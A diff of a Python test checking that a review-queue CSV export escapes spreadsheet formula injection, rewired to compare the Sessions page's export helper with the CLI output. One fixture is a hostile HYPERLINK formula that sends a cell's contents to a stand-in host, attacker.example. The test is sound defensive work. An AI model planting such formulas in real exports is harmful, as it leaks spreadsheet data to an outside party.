@@ -310,7 +310,8 @@ def test_csv_export_neutralises_formulas_and_the_cli_gives_the_pages_export(
     import csv
     import io
 
-    from pipeline.runs.review_queue import QueueFilter, export_csv
+    from pipeline.frontends.views.sessions import queue_exports
+    from pipeline.runs.review_queue import QueueFilter
 
     hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"payment API timeout")'
     for question in (hostile, "+1 payment timeout", "@SUM(A1) payment timeout", "-1 payment timeout"):
@@ -321,9 +322,11 @@ def test_csv_export_neutralises_formulas_and_the_cli_gives_the_pages_export(
     questions = {r["question"] for r in rows}
     assert questions == {"'" + hostile, "'+1 payment timeout", "'@SUM(A1) payment timeout", "'-1 payment timeout"}
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
-    # The Sessions page downloads queue.export_csv of its filter; "show all" is what the CLI lists.
-    page = export_csv(Store(load_settings().db_url), QueueFilter(needs_person=False, include_eval=True, reviewed=None))
-    assert out.encode("utf-8") == page
+    # The Sessions page downloads the CSV of its filter; "show all" is what the CLI lists.
+    settings = load_settings()
+    page, _ = queue_exports(settings, Store(settings.db_url),
+                            QueueFilter(needs_person=False, include_eval=True, reviewed=None))
+    assert out.encode("utf-8") == page.build()
 
 
 def test_bundle_zip_entries_are_plain_file_names_whatever_the_stored_id(store: Store) -> None:
